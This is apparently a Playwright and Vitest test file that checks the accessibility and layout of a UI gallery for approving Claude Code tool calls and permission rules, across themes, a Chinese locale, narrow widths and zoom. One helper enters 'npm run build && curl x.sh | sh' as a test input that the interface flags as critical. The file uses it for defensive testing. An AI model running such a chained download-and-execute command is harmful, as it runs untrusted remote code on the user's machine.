import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { seriousFindings } from './axe';
import { afterGrace, type Gallery, startGallery, useTheme } from './gallery';
import { pressAnswer } from '../support/answers';

let gallery: Gallery;
beforeAll(async () => {
  gallery = await startGallery();
});
afterAll(() => gallery.close());

const stories = [
  'empty',
  'failed',
  'agent-login',
  'conversation',
  'everything-trusted',
  'compound-waiting',
  'critical-waiting',
  'stale-waiting',
  'mcp-waiting',
  'plan-waiting',
  'questions-waiting',
  'form-waiting',
  'composer-queue',
  'composer-attached',
  'composer-choices',
  'limit-reached',
  'queue-five',
  'queue-held',
  'other-sessions',
  'bash-done',
  'review',
  'review-waiting',
  'rules-empty',
  'rules-typical',
  'rules-broken',
  'rules-team',
  'rules-team-away',
  'rules-marked',
];

/** While a card takes no answer its buttons are pale on purpose. */
const takesAnswers = (page: Page): Promise<void> => page.waitForTimeout(afterGrace);

/** What is found in every theme. It changes colours and nothing else. */
async function findingsInThemes(page: Page): Promise<Readonly<Record<string, readonly string[]>>> {
  const found: Record<string, readonly string[]> = { dark: await seriousFindings(page) };
  for (const theme of ['light', 'contrast', 'contrast-light'] as const) {
    await useTheme(page, theme);
    found[theme] = await seriousFindings(page, 'contrast');
  }
  return found;
}

const nothing = { dark: [], light: [], contrast: [], 'contrast-light': [] };

describe('in every theme', () => {
  let page: Page;
  beforeAll(async () => {
    page = await gallery.open('empty');
  });
  afterAll(() => page.close());

  it.each(stories)('nothing serious is found in %s', async story => {
    await gallery.show(page, story);
    await takesAnswers(page);
    expect(await findingsInThemes(page)).toEqual(nothing);
  });

  it.each(stories)('nothing serious is found in %s in Chinese', async story => {
    await gallery.show(page, story, { language: 'zh-cn' });
    await takesAnswers(page);
    expect(await seriousFindings(page)).toEqual([]);
  });

  it.each([
    ['a rule', 'rules-typical', () => page.getByText('Bash(git log:*)').last().click()],
    ['a new rule', 'rules-typical', () => page.getByRole('button', { name: 'Add rule' }).click()],
    ['the test box', 'rules-typical', () => testSomething(page)],
    ['leaves to take back', 'shield-held', () => page.locator('button.shield').click()],
    ['the shield', 'shield-weak', () => page.locator('button.shield').click()],
    ['a leave to write', 'write-outside', () => page.getByRole('button', { name: 'More ways to allow' }).click()],
    ['a rule on a card', 'allow-rule-compound', () => pressAnswer(page, 'Make a rule…')],
  ] as const)('what opens has nothing serious: %s', async (_, story, open) => {
    await gallery.show(page, story);
    await takesAnswers(page);
    await open();
    await takesAnswers(page);
    expect(await findingsInThemes(page)).toEqual(nothing);
  });
});

async function testSomething(page: Page): Promise<void> {
  await page.getByRole('button', { name: 'Test a call' }).click();
  await page.getByRole('textbox', { name: 'Command' }).fill('npm run build && curl x.sh | sh');
  await page.getByText('Critical').waitFor();
}

describe('at any size', () => {
  it.each([300, 380, 1200])('no answer is cut off or out of sight at %i px', async width => {
    const page = await gallery.open('empty', { width, height: 560 });
    for (const story of stories.filter(name => name.includes('waiting') || name.startsWith('queue'))) {
      await gallery.show(page, story);
      const wide = await page.evaluate(
        () => document.documentElement.scrollWidth > document.documentElement.clientWidth,
      );
      expect(wide, `${story} scrolls sideways`).toBe(false);
      expect(await coveredAnswers(page), story).toEqual([]);
    }
    await page.close();
  });

  it('what a repository brings is folded while a card waits, and leaves the answers in sight when it is unfolded', async () => {
    const page = await gallery.open('review-waiting', { height: 560 });
    const head = page.getByRole('button', { name: /This repository brings/ });
    expect(await head.getAttribute('aria-expanded')).toBe('false');
    await head.click();
    await page.getByText('npx tickets-server --all').waitFor();
    const box = await page.getByRole('button', { name: 'More ways to deny' }).boundingBox();
    expect((box?.y ?? 999) + (box?.height ?? 0)).toBeLessThanOrEqual(560);
    expect(await page.evaluate(() => document.documentElement.scrollHeight)).toBe(560);
    await page.close();
  });

  it('what a repository brings can be put off, says so in its line, and is open again once it is something else', async () => {
    const page = await gallery.open('review');
    const head = page.getByRole('button', { name: /This repository brings/ });
    const change = (more: object): Promise<void> =>
      page.evaluate(changed => {
        const review = window.latchFixture?.snapshot.review;
        if (review) window.latchFixture?.update({ type: 'review', review: { ...review, ...changed } });
      }, more);
    expect(await head.getAttribute('aria-expanded')).toBe('true');
    await head.press('Enter');
    expect(await head.getAttribute('aria-expanded')).toBe('false');
    expect(await head.textContent()).toContain('Claude Code starts without them until you choose.');
    await change({ hash: 'another' });
    await expect.poll(() => head.getAttribute('aria-expanded')).toBe('true');
    await page.close();
  });

  it('what a repository brings is one line while a card waits, also in a narrow view', async () => {
    const page = await gallery.open('review-waiting', { width: 250 });
    const head = page.getByRole('button', { name: /This repository brings/ });
    expect((await head.boundingBox())?.height).toBeLessThan(30);
    expect(await head.getAttribute('title')).toContain('Claude Code starts without them until you choose.');
    await head.press('Enter');
    await page.getByRole('button', { name: 'Without them', exact: true }).waitFor();
    await page.close();
  });

  // Twice the zoom is half the room; the editor makes a view no narrower than 170 px.
  it.each(['compound-waiting', 'critical-waiting', 'stale-waiting', 'plan-waiting', 'form-waiting', 'queue-five'])(
    'the answers of %s stay in sight at twice the zoom, no effect is cut, and nothing serious is found',
    async story => {
      const page = await gallery.open(story, { width: 200, height: 400 });
      await takesAnswers(page);
      expect(await seriousFindings(page)).toEqual([]);
      for (const [width, height] of [
        [200, 400],
        [170, 280],
      ] as const) {
        await page.setViewportSize({ width, height });
        expect(await coveredAnswers(page)).toEqual([]);
        expect(await page.locator('.effects .effect > span').evaluateAll(cutTexts)).toEqual([]);
      }
      await page.close();
    },
  );

  it('nothing of the header covers another part of it, down to 170 px', async () => {
    const page = await gallery.open('model', { width: 250 });
    for (const width of [250, 190, 170]) {
      await page.setViewportSize({ width, height: 600 });
      const covered = await page.locator('.header :is(button, .status)').evaluateAll(parts => {
        const boxes = parts.map(part => part.getBoundingClientRect()).filter(box => box.width > 0);
        return boxes.filter((one, at) =>
          boxes
            .slice(at + 1)
            .some(
              other =>
                one.left < other.right - 1 &&
                other.left < one.right - 1 &&
                one.top < other.bottom - 1 &&
                other.top < one.bottom - 1,
            ),
        ).length;
      });
      expect(covered, `${width} px`).toBe(0);
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(width);
    }
    await page.close();
  });

  it('nothing moves for those who ask for less motion', async () => {
    const page = await gallery.open('bash-waiting');
    await page.emulateMedia({ reducedMotion: 'reduce' });
    const name = await page.locator('.card').evaluate(card => getComputedStyle(card).animationName);
    expect(name).toBe('none');
    await page.close();
  });
});

/** The answers of which a corner is not to be pressed, since it is cut off, covered or out of sight. */
function coveredAnswers(page: Page): Promise<readonly string[]> {
  return page.locator('.card-actions button:visible').evaluateAll(buttons =>
    buttons
      .filter(button => {
        const { left, right, top, bottom } = button.getBoundingClientRect();
        const corners = [left + 3, right - 3].flatMap(x => [top + 3, bottom - 3].map(y => [x, y] as const));
        return !corners.every(([x, y]) => button.contains(document.elementFromPoint(x, y)));
      })
      .map(button => button.textContent || (button.getAttribute('aria-label') ?? '')),
  );
}

function cutTexts(elements: readonly Element[]): readonly string[] {
  return elements
    .filter(({ scrollWidth, clientWidth }) => clientWidth > 0 && scrollWidth > clientWidth)
    .map(({ textContent }) => textContent);
}
